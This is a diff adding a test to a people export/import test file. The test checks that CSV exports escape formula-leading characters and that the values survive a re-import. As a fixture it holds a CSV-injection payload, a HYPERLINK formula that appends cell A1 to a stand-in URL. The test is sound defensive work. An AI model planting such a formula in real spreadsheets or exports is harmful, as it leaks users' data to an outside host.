@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import datetime as dt
 import io
 import json
@@ -267,6 +268,26 @@ def test_export_then_import_people_round_trips(tmp_path: Path, fmt: str) -> None
     after = list(
         Person.objects.order_by("username").values("name", "username", "phone", "department", "role")
     )
+    assert after == before
+
+
+def test_export_people_writes_a_csv_cell_a_spreadsheet_would_run_as_text_and_import_reads_it_back(
+    tmp_path: Path,
+) -> None:
+    # A formula is marked as text, as the admin's export marks it; a text that
+    # starts with that mark already ('=Eng) keeps it through the round trip.
+    Person.objects.create(name='=HYPERLINK("http://example.com/?"&A1,"Click")', username="+ada", role="@lead")
+    Person.objects.create(name="Grace", username="grace", department="'=Eng", role="-")
+    before = list(Person.objects.order_by("username").values("name", "username", "department", "role"))
+    exported = tmp_path / "people.csv"
+    call_command("export_people", "--output", str(exported), stderr=io.StringIO())
+    rows = {row["username"]: row for row in csv.DictReader(io.StringIO(exported.read_text()))}
+    assert rows["'+ada"]["name"] == '\'=HYPERLINK("http://example.com/?"&A1,"Click")'
+    assert rows["'+ada"]["role"] == "'@lead"
+    assert (rows["grace"]["department"], rows["grace"]["role"]) == ("''=Eng", "'-")
+    Person.objects.all().delete()
+    run("import_people", str(exported))
+    after = list(Person.objects.order_by("username").values("name", "username", "department", "role"))
     assert after == before
 
 
